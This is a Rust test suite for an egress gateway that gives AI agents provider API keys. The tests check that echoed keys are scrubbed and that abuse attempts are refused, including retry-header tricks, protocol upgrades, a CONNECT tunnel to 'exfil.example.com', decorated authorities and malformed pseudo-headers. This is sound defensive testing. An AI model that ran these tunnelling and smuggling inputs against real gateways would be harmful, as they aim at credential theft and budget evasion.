        assert!(!out.contains(ANTHROPIC_KEY), "the echoed key reached the agent in a header or the body:\n{out}");
        // The body of an answer whose headers quoted the key is scrubbed too, on a route whose
        // bodies are not (a redirect's `Location` and its "moved" page quote the same URL).
        assert!(out.contains(r#""credential":"[redacted]""#), "{out}");
        assert!(out.to_ascii_lowercase().contains("x-debug-credential: [redacted]"), "{out}");
        // A name Envoy guards from filters unless their mutation rules allow it.
        assert!(out.to_ascii_lowercase().contains("x-envoy-echoed-credential: [redacted]"), "{out}");
        // Repeated headers stay repeated, in order: two cookies were joined into one.
        let cookies: Vec<&str> =
            out.lines().filter(|l| l.to_ascii_lowercase().starts_with("set-cookie:")).map(str::trim_end).collect();
        assert_eq!(
            cookies.iter().map(|c| &c[11..]).collect::<Vec<_>>(),
            [" session=s1; Expires=Wed, 21 Oct 2026 07:28:00 GMT; Secure", " debug=[redacted]"],
            "{out}"
        );
    }
    let (_, metrics) = scrape(metrics_port(&dev), "/metrics").await;
    assert!(metric(&metrics, "keyswap_response_secrets_scrubbed_total") >= 2.0, "{metrics}");
}

/// The attack: on a route whose bodies are not scrubbed (a known provider's: they never echo
/// credentials in answers), make the upstream answer an error that quotes what it was sent (AWS
/// quotes the canonical request of a signature mismatch, the session token's value in it; a
/// gateway in front of the provider, its 401 with the key). The agent read it in the body. An
/// error's body is scrubbed on every injected route.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_key_quoted_in_an_error_body_never_reaches_the_agent() {
    let (dev, fake, _dirs) = anthropic_gateway(false).await;
    for http in ["--http1.1", "--http2"] {
        let (code, out, err) = tokio::task::block_in_place(|| {
            // `--compressed`: the agent asks for gzip, and reads what comes decompressed.
            let url = "https://api.anthropic.com/echo-error";
            curl(&dev, &[http, "--compressed", "-sS", "-w", "\n%{http_code}", "-d", "{}", url])
        });
        assert_eq!(code, 0, "{err}");
        assert_eq!(fake.seen().last().unwrap().header_str("x-api-key").as_deref(), Some(ANTHROPIC_KEY));
        assert!(out.ends_with("403"), "{out}");
        assert!(!out.contains(ANTHROPIC_KEY), "the quoted key reached the agent in the body:\n{out}");
        assert!(out.contains(r#""credential":"[redacted]""#), "{out}");
    }
    // A success's body is still passed as it is (known providers never echo keys in answers).
    let (_, out, _) =
        tokio::task::block_in_place(|| curl(&dev, &["-sS", "-d", "{}", "https://api.anthropic.com/v1/messages"]));
    assert!(out.contains("usage"), "{out}");
}

/// An upstream that compresses a body keyswap scrubs though keyswap asked for it uncompressed:
/// its bytes could not be searched for secrets, and went to the agent as they were. Not forwarded:
/// 502; an error keeps its status and the headers a client backs off by, scrubbed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_body_to_scrub_that_the_upstream_compressed_anyway_is_not_forwarded() {
    let (dev, fake, _dirs) = anthropic_gateway(true).await;
    let (code, out, err) = tokio::task::block_in_place(|| {
        curl(
            &dev,
            &["--compressed", "-sS", "-w", "\n%{http_code}", "-d", "{}", "https://api.anthropic.com/gzip-always"],
        )
    });
    assert_eq!(code, 0, "{err}");
    assert_eq!(fake.seen().last().unwrap().header_str("accept-encoding").as_deref(), Some("identity"));
    assert!(out.ends_with("502") && out.contains("upstream_response_unreadable"), "{out}");
    // A rate limit compressed anyway: still a 429 with its retry-after, so the agent's SDK backs
    // off instead of retrying a 502 at once, and a key quoted in a kept header is scrubbed.
    let url = "https://api.anthropic.com/gzip-always-429";
    let (code, out, err) = tokio::task::block_in_place(|| {
        curl(&dev, &["--compressed", "-sS", "-i", "-w", "\n%{http_code}", "-d", "{}", url])
    });
    assert_eq!(code, 0, "{err}");
    let lower = out.to_ascii_lowercase();
    assert!(lower.ends_with("429") && lower.contains("upstream_response_unreadable"), "{out}");
    assert!(lower.contains("retry-after: 7") && lower.contains("x-ratelimit-remaining-requests: 0"), "{out}");
    assert!(lower.contains("x-request-id: req-[redacted]") && !out.contains(ANTHROPIC_KEY), "{out}");
    let (_, out, _) = tokio::task::block_in_place(|| {
        curl(&dev, &["--compressed", "-sS", "-d", "{}", "https://api.anthropic.com/v1/messages"])
    });
    assert!(out.contains("usage"), "an answer sent as asked still goes through: {out}");
}

/// `keyswap dev` with Anthropic on every path, before a TLS fake; its response bodies scrubbed
/// when `scrub_bodies` (else only errors' are, as on every injected route).
async fn anthropic_gateway(scrub_bodies: bool) -> (Dev, FakeProvider, (tempfile::TempDir, tempfile::TempDir)) {
    let (work, config) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let mut text = gateway("deny-all", free_port(), free_port(), "").replace(", endpoints: [\"/v1/messages\"]", "");
    assert!(!text.contains("scrubResponseBodies"));
    if scrub_bodies {
        text = text.replace("  rules:\n  - matches:", "  scrubResponseBodies: true\n  rules:\n  - matches:");
    }
    assert_eq!(text.contains("scrubResponseBodies"), scrub_bodies);
    std::fs::write(config.path().join("gateway.yaml"), text).unwrap();
    let (fake, ca) = FakeProvider::start_tls(&["api.anthropic.com"], work.path()).await;
    let up = vec![format!("api.anthropic.com={},ca={}", fake.addr, ca.display())];
    let dev = tokio::task::block_in_place(|| start_dev(config.path(), work.path(), &up));
    (dev, fake, (work, config))
}

/// The attack: an upstream (a `custom` route's service, a debugging proxy, a gRPC-style error
/// detail) echoes the credential in the response's trailers. Over HTTP/2 both ways Envoy passes
/// trailers to the agent; where a route scrubs response bodies (the default for `custom`)
/// keyswap scrubs the trailers as it scrubs headers, and a response without trailers costs no
/// extra ext_proc message.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_key_echoed_in_response_trailers_never_reaches_the_agent() {
    let (dev, fake, _dirs) = anthropic_gateway(true).await;
    // An answer without trailers costs no trailers message (Envoy sends one only for trailers).
    let (code, _, err) = tokio::task::block_in_place(|| {
        curl(&dev, &["--http2", "-sS", "-o", "/dev/null", "-d", "{}", "https://api.anthropic.com/v1/messages"])
    });
    assert_eq!(code, 0, "{err}");
    let trailers = |m: &str| metric(m, "keyswap_extproc_phase_duration_seconds_count{phase=\"trailers\"}");
    assert_eq!(trailers(&scrape(metrics_port(&dev), "/metrics").await.1), 0.0);
    let url = "https://api.anthropic.com/echo-trailers";
    let (code, out, err) =
        tokio::task::block_in_place(|| curl(&dev, &["--http2", "-sS", "-D", "-", "-o", "/dev/null", "-d", "{}", url]));
    assert_eq!(code, 0, "{err}");
    assert!(fake.h2_connections.load(std::sync::atomic::Ordering::Relaxed) >= 1, "the upstream spoke HTTP/2");
    assert_eq!(fake.seen().last().unwrap().header_str("x-api-key").as_deref(), Some(ANTHROPIC_KEY));
    let out = out.to_ascii_lowercase();
    // The trailers reached the agent (so the assertion below can fail), the clean one unchanged.
    assert!(out.contains("x-clean-trailer: kept"), "no trailers reached the agent:\n{out}");
    assert!(
        !out.contains(&ANTHROPIC_KEY.to_ascii_lowercase()),
        "the echoed key reached the agent in a trailer:\n{out}"
    );
    assert!(out.contains("x-debug-credential: [redacted]"), "{out}");
    let (_, metrics) = scrape(metrics_port(&dev), "/metrics").await;
    assert!(metric(&metrics, "keyswap_response_secrets_scrubbed_total") >= 1.0, "{metrics}");
    assert_eq!(trailers(&metrics), 1.0, "{metrics}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_key_echoed_in_the_response_body_is_scrubbed_where_the_route_asks() {
    let (dev, fake, _dirs) = anthropic_gateway(true).await;
    let (code, out, err) =
        tokio::task::block_in_place(|| curl(&dev, &["--http1.1", "-i", "-d", "{}", "https://api.anthropic.com/echo"]));
    assert_eq!(code, 0, "{err}");
    assert!(fake
        .sent
        .lock()
        .unwrap()
        .last()
        .unwrap()
        .windows(ANTHROPIC_KEY.len())
        .any(|w| w == ANTHROPIC_KEY.as_bytes()));
    assert!(!out.contains(ANTHROPIC_KEY), "the echoed key reached the agent in the body:\n{out}");
    assert!(out.contains(r#""credential":"[redacted]""#), "{out}");
    // Streams still flow, chunk by chunk, through the scrubbing route.
    let body = r#"{"model":"claude-sonnet-4-5","max_tokens":16,"stream":true,"messages":[]}"#;
    let (code, out, err) =
        tokio::task::block_in_place(|| curl(&dev, &["-d", body, "https://api.anthropic.com/v1/messages"]));
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("message_stop"), "{out}");
}

// === 8a. Envoy's own request headers ===

/// Envoy reads retry and timeout orders from `x-envoy-*` request headers of requests it counts as
/// internal (loopback and private addresses, unless told otherwise: every agent's). An agent that
/// sends them would have the gateway call the provider again after an answer it was charged
/// for once (`retriable-status-codes: 200`), or cut the upstream's answer short to retry it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn agent_retry_headers_cannot_buy_two_generations_for_one_request() {
    let g = start_gateway("deny-all", "", &[]).await;
    let before = g.fake.seen().len();
    let body = r#"{"model":"claude-sonnet-4-5","max_tokens":16,"messages":[]}"#;
    for (name, value) in [
        ("x-envoy-retry-on", "retriable-status-codes,5xx,reset"),
        ("x-envoy-retriable-status-codes", "200"),
        ("x-envoy-max-retries", "3"),
        ("x-envoy-upstream-rq-timeout-ms", "1"),
        ("x-envoy-upstream-rq-per-try-timeout-ms", "1"),
        ("x-envoy-hedge-on-per-try-timeout", "true"),
    ] {
        let (_, out, _) = g.curl(&[
            "-H",
            "x-envoy-retry-on: retriable-status-codes,5xx,reset",
            "-H",
            "x-envoy-retriable-status-codes: 200",
            "-H",
            "x-envoy-max-retries: 3",
            "-H",
            &format!("{name}: {value}"),
            "-d",
            body,
            "https://api.anthropic.com/v1/messages",
        ]);
        assert!(status_line(&out).contains(" 200"), "{out}");
    }
    let seen = g.fake.seen();
    assert_eq!(seen.len(), before + 6, "a request reached the provider more than once");
    for s in &seen[before..] {
        let got = s.everything().to_ascii_lowercase();
        for name in
            ["x-envoy-retry-on", "x-envoy-retriable", "x-envoy-max-retries", "x-envoy-upstream-rq", "x-envoy-hedge"]
        {
            assert!(!got.contains(name), "an agent's {name} reached the provider: {got}");
        }
        // Envoy's own statement of the route's timeout, not one the agent chose.
        assert!(!got.contains("x-envoy-expected-rq-timeout-ms: 1\n"), "{got}");
    }
}

// === 8b. protocol switches past the request decision ===

/// Once a connection switches protocol (a WebSocket, h2c, a nested CONNECT), its bytes are no
/// longer requests keyswap sees: an agent holding an upgraded stream to a keyed route could send
/// anything over it, unmetered by budgets and unread by spans. Only the CONNECT of the explicit
/// proxy may switch; nothing inside a terminated TLS session may.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn websocket_h2c_and_nested_connect_upgrades_never_switch_a_keyed_stream() {
    let g = start_gateway("deny-all", "", &[]).await;
    let messages = "https://api.anthropic.com/v1/messages";
    let ws = [
        "-H",
        "Connection: Upgrade",
        "-H",
        "Upgrade: websocket",
        "-H",
        "Sec-WebSocket-Version: 13",
        "-H",
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
    ];
    let before = g.fake.seen().len();
    // A WebSocket upgrade through the proxy's tunnel and on the redirected TLS listener, and
    // the other upgrade tokens an agent might try (MASQUE, a CONNECT spelled as an upgrade).
    // Envoy answers 403 to an upgrade it was not configured for, and 404 to a CONNECT-UDP
    // whose path is not a MASQUE template.
    let refused = |out: &str| [" 400", " 403", " 404"].contains(&status_line(out));
    let masque = "/.well-known/masque/udp/127.0.0.1/443/";
    for (upgrade, path) in [
        ("websocket", "/v1/messages"),
        ("connect-udp", "/v1/messages"),
        ("connect-udp", masque),
        ("CONNECT", "/v1/messages"),
        ("websocket, h2c", "/v1/messages"),
    ] {
        let headers = ws.map(|h| if h == "Upgrade: websocket" { format!("Upgrade: {upgrade}") } else { h.to_owned() });
        let headers: Vec<&str> = headers.iter().map(String::as_str).collect();
        let url = format!("https://api.anthropic.com{path}");
        let (_, out, err) = g.curl(&[&headers[..], &[&url]].concat());
        assert!(refused(&out), "Upgrade: {upgrade} {path} through the tunnel: {out}\n{err}");
        let (_, out, err) =
            g.curl_tls("api.anthropic.com", &[&headers[..], &[&g.url("api.anthropic.com", path)]].concat());
        assert!(refused(&out), "Upgrade: {upgrade} {path} on the TLS listener: {out}\n{err}");
    }
    g.assert_nothing_forwarded(before, "a protocol upgrade");
    // A CONNECT inside the terminated TLS session: a tunnel from the keyed host to anywhere.
    for target in ["exfil.example.com:443", "api.anthropic.com:443", "127.0.0.1:22"] {
        let (_, out, err) = g.curl(&["-X", "CONNECT", "--request-target", target, "https://api.anthropic.com/"]);
        let status = status_line(&out);
        assert!([" 400", " 403", " 404", " 405"].contains(&status), "CONNECT {target} inside TLS: {out}\n{err}");
    }
    g.assert_nothing_forwarded(before, "a CONNECT inside the TLS session");
    // h2c is not a switch Envoy makes: the upgrade headers are dropped and the request is
    // decided like any other, keyed, with the agent's upgrade never reaching the provider.
    let (_, out, err) = g.curl(&[
        "-H",
        "Connection: Upgrade, HTTP2-Settings",
        "-H",
        "Upgrade: h2c",
        "-H",
        "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
        "-d",
        "{}",
        messages,
    ]);
    assert_eq!(status_line(&out), " 200", "{out}\n{err}");
    let seen = g.fake.seen();
    assert_eq!(seen.len(), before + 1);
    let got = seen.last().unwrap();
    assert_eq!(got.header_str("x-api-key").as_deref(), Some(ANTHROPIC_KEY));
    for h in ["upgrade", "http2-settings"] {
        assert!(got.header(h).is_empty(), "the agent's {h} header reached the provider: {}", got.everything());
    }
}

// === 9. malformed authorities ===

async fn direct() -> InProcess {
    start_in_process().await
}

fn req<'a>(method: &'a str, authority: &'a str, path: &'a str) -> Vec<(&'a str, &'a str)> {
    vec![(":method", method), (":scheme", "https"), (":authority", authority), (":path", path)]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bracketed_or_decorated_authorities_never_match_a_route() {
    let s = direct().await;
    let mut c = grpc::connect(s.addr).await;
    for authority in [
        "[api.anthropic.com].evil.example",
        "[api.anthropic.com",
        "[api.anthropic.com]",
        "api.anthropic.com]",
        "evil@api.anthropic.com",
        "api.anthropic.com:443:1",
        "api.anthropic.com:443@evil.example",
        "api.anthropic.com evil.example",
        "api.anthropic.com/evil",
        "api.anthropic.com\\evil",
        "api.anthropic.com%2eevil.example",
        "api.anthropic.com:99999",
        "api.anthropic.com:",
    ] {
        let r = grpc::request(&mut c, &req("POST", authority, "/v1/messages")).await;
        let i = immediate(&r);
        assert_eq!(i.status.as_ref().unwrap().code, 400, "{authority}");
        let body = String::from_utf8_lossy(&i.body);
        assert!(body.contains("malformed_authority") && !body.contains(ANTHROPIC_KEY), "{authority}: {body}");
    }
    // Through Envoy: a Host header naming a routed host in brackets gets nothing either.
    let g = start_gateway("deny-all", "", &[]).await;
    let before = g.fake.seen().len();
    for host in ["[api.anthropic.com].evil.example", "api.anthropic.com.evil.example", "api.anthropic.com@evil"] {
        let (_, out, _) =
            g.curl(&["-H", &format!("Host: {host}"), "-d", "{}", "https://api.anthropic.com/v1/messages"]);
        assert!(
            !status_line(&out).contains(" 200"),
            "{host}: {out}\nprovider saw: {:?}\n{}",
            g.fake.seen().last().map(|s| s.everything()),
            g.dev.proc.output().lines().filter(|l| l.contains("keyswap::extproc")).collect::<Vec<_>>().join("\n")
        );
    }
    g.assert_nothing_forwarded(before, "decorated authorities");
    let _ = &s.shared;
}

/// A host with a token budget runs the body-streaming deciding filter with the whole request
/// body in its phases (reservation reads `max_tokens`). Spelling the host another way — case, a
/// port, a trailing dot, the TLS listener instead of CONNECT — must not land the request on a
/// virtual host whose phases lack the body, to have it forwarded unreserved: every spelling is
/// metered (here refused: the budget is smaller than any reservation) or refused, none reaches
/// the provider.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn host_spellings_never_carry_a_request_past_a_token_budget() {
    let budget = "---\napiVersion: keyswap.dev/v1alpha1\nkind: TokenBudget\nmetadata: {name: tiny}\nspec:\n  parentRefs: [{kind: EgressGateway, name: egress}]\n  key: Gateway\n  window: Day\n  limits: {totalTokens: 5}\n";
    let g = start_gateway("deny-all", budget, &[]).await;
    let body = r#"{"model":"claude-x","max_tokens":100,"messages":[{"role":"user","content":"hi"}]}"#;
    let json = "content-type: application/json";
    let before = g.fake.seen().len();
    // The canonical spelling is metered: the budget refuses it by name.
    let (_, out, _) = g.curl(&["-H", json, "-d", body, "https://api.anthropic.com/v1/messages"]);
    assert_eq!(status_line(&out), " 429", "{out}");
    assert!(out.contains("budget_exhausted"), "{out}");
    let spellings = ["API.ANTHROPIC.COM", "Api.Anthropic.Com:443", "api.anthropic.com:443", "api.anthropic.com."];
    for host in spellings {
        let h = format!("Host: {host}");
        let (_, out, _) = g.curl(&["-H", &h, "-H", json, "-d", body, "https://api.anthropic.com/v1/messages"]);
        let status = status_line(&out);
        assert!(status.starts_with(" 4"), "{host} through CONNECT: {status}\n{out}");
        let url = g.url("api.anthropic.com", "/v1/messages");
        let (_, out, _) = g.curl_tls("api.anthropic.com", &["-H", &h, "-H", json, "-d", body, &url]);
        let status = status_line(&out);
        assert!(status.starts_with(" 4"), "{host} on the TLS listener: {status}\n{out}");
    }
    g.assert_nothing_forwarded(before, "host spellings past a token budget");
}

/// A TokenBudget added while a traced gateway serves: its hosts already run the body-streaming
/// deciding filter, with only the captured part of the request body in their phases, and now need
/// the whole body to reserve. Until Envoy has the new route (ADS), a request is refused
/// (`phases_mismatch`, 503), never forwarded unreserved; once it has it, every request is metered.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_token_budget_added_to_a_traced_gateway_meters_every_request_after_it_applies() {
    let collector = format!("http://127.0.0.1:{}", free_port());
    let g = start_gateway_env("deny-all", "", &[], &[("OTEL_EXPORTER_OTLP_ENDPOINT", &collector)]).await;
    let body = r#"{"model":"claude-x","max_tokens":100,"messages":[{"role":"user","content":"hi"}]}"#;
    let call = || {
        let (_, out, _) =
            g.curl(&["-H", "content-type: application/json", "-d", body, "https://api.anthropic.com/v1/messages"]);
        out
    };
    assert_eq!(status_line(&call()), " 200", "before the budget");
    let budget = "apiVersion: keyswap.dev/v1alpha1\nkind: TokenBudget\nmetadata: {name: tiny}\nspec:\n  parentRefs: [{kind: EgressGateway, name: egress}]\n  key: Gateway\n  window: Day\n  limits: {totalTokens: 5}\n";
    std::fs::write(g._dirs.1.path().join("budget.yaml"), budget).unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(15);
    let mut seen = Vec::new();
    let mut forwarded_after_change = None;
    loop {
        let before = g.fake.seen().len();
        let out = call();
        let status = status_line(&out).to_owned();
        if status != " 200" && forwarded_after_change.is_none() {
            forwarded_after_change = Some(before);
        }
        if forwarded_after_change.is_some() {
            assert!(
                status == " 429" || (status == " 503" && out.contains("phases_mismatch")),
                "after the budget applied: {status}\n{out}"
            );
        }
        seen.push(status.clone());
        if status == " 429" {
            break;
        }
        assert!(std::time::Instant::now() < deadline, "the budget never metered a request: {seen:?}");
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    for _ in 0..5 {
        let out = call();
        assert_eq!(status_line(&out), " 429", "{out}");
        assert!(out.contains("budget_exhausted"), "{out}");
    }
    g.assert_nothing_forwarded(forwarded_after_change.unwrap(), "requests after the budget applied");
}

#[tokio::test]
async fn trace_and_dot_segments_sent_straight_to_keyswap_get_no_key() {
    let s = direct().await;
    let mut c = grpc::connect(s.addr).await;
    for (method, path, status) in [
        ("TRACE", "/v1/messages", 405),
        ("CONNECT", "/v1/messages", 405),
        ("POST", "/v1/../v1/messages", 400),
        ("POST", "/v1/x%2F..%2Fmessages", 400),
        ("POST", "v1/messages", 400),
    ] {
        let r = grpc::request(&mut c, &req(method, "api.anthropic.com", path)).await;
        assert_eq!(immediate(&r).status.as_ref().unwrap().code, status, "{method} {path}");
    }
    // An underscore spelling is removed under its own name; the real key is still written.
    let mut pairs = req("POST", "api.anthropic.com", "/v1/messages");
    pairs.push(("x_api_key", STOLEN));
    pairs.push(("cookie", STOLEN));
    let r = grpc::request(&mut c, &pairs).await;
    let m = mutation(&r);
    assert_eq!(set_value(&m, "x-api-key").as_deref(), Some(ANTHROPIC_KEY));
    assert!(
        m.remove_headers.contains(&"x_api_key".to_owned()) && m.remove_headers.contains(&"cookie".to_owned()),
        "{m:?}"
    );
}

/// keyswap does not rely on the Envoy in front to refuse what HTTP cannot carry: a pseudo-header
/// missing or not UTF-8 was read as a default that passes every check (`/` for the path, the
/// `host` header for the authority, `GET`), while the bytes Envoy forwards are another request.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn non_utf8_or_missing_pseudo_headers_sent_straight_to_keyswap_get_no_key() {
    use envoy_types::pb::envoy::service::ext_proc::v3::processing_request::Request;
    let s = direct().await;
    let mut c = grpc::connect(s.addr).await;
    let bad = b"/v1/x/../messages?key=\xC3".as_slice();
    let cases: [(&str, &[u8], i32); 4] = [
        (":path", bad, 400),
        (":authority", b"api.anthropic.com\xFF", 400),
        (":method", b"P\xD8ST", 405),
        (":path", b"", 400),
    ];
    for (name, value, status) in cases {
        let mut pairs = req("POST", "api.anthropic.com", "/v1/messages");
        pairs.push(("host", "api.anthropic.com"));
        let mut msg = grpc::headers(&pairs);
        let Some(Request::RequestHeaders(h)) = &mut msg.request else { unreachable!() };
        for hv in &mut h.headers.as_mut().unwrap().headers {
            if hv.key == name {
                hv.raw_value = value.to_vec();
            }
        }
        let mut answers = grpc::exchange(&mut c, vec![msg]).await;
        let r = answers.remove(0).expect("an answer, not a broken stream");
        assert_eq!(immediate(&r).status.as_ref().unwrap().code, status, "{name}: {value:?}");
    }
    // Without `:path` or `:method` at all: refused the same way.
    for missing in [":path", ":method"] {
        let pairs: Vec<_> =
            req("POST", "api.anthropic.com", "/v1/messages").into_iter().filter(|(k, _)| *k != missing).collect();
        let r = grpc::request(&mut c, &pairs).await;
        assert!(immediate(&r).status.as_ref().unwrap().code >= 400, "without {missing}");
    }
}

// === lower severity: protocol errors ===

#[tokio::test]
async fn undecodable_grpc_messages_end_with_an_error_status_and_are_counted() {
    let s = direct().await;
    // A gRPC frame whose payload is not a ProcessingRequest (field 1 as a truncated varint).
    let frame: &[u8] = &[0, 0, 0, 0, 3, 0x08, 0xff, 0xff];
    let out = tokio::task::spawn_blocking({
        let addr = s.addr;
        move || {
            Command::new("curl")
                .args(["-sS", "--http2-prior-knowledge", "-D", "-", "-o", "/dev/null", "--max-time", "10"])
                .args(["-H", "content-type: application/grpc", "-H", "te: trailers", "--data-binary", "@-"])
                .arg(format!("http://{addr}/envoy.service.ext_proc.v3.ExternalProcessor/Process"))
                .stdin(std::process::Stdio::piped())
                .stdout(std::process::Stdio::piped())
                .spawn()
                .and_then(|mut child| {
                    use std::io::Write;
                    child.stdin.take().unwrap().write_all(frame)?;
                    child.wait_with_output()
                })
                .expect("curl is installed (apt-get install -y curl)")
        }
    })
    .await
    .unwrap();
    let headers = String::from_utf8_lossy(&out.stdout).to_ascii_lowercase();
    let status = headers.lines().find_map(|l| l.strip_prefix("grpc-status:")).map(str::trim);
    assert!(status.is_some_and(|s| s != "0"), "expected an error grpc-status: {headers}");
    assert_eq!(keyswap::telemetry::Metrics::get(&s.shared.metrics.protocol_errors), 1);
    // The service still answers.
    let mut c = grpc::connect(s.addr).await;
    let r = grpc::request(&mut c, &req("POST", "api.anthropic.com", "/v1/messages")).await;
    assert_eq!(set_value(&mutation(&r), "x-api-key").as_deref(), Some(ANTHROPIC_KEY));
}
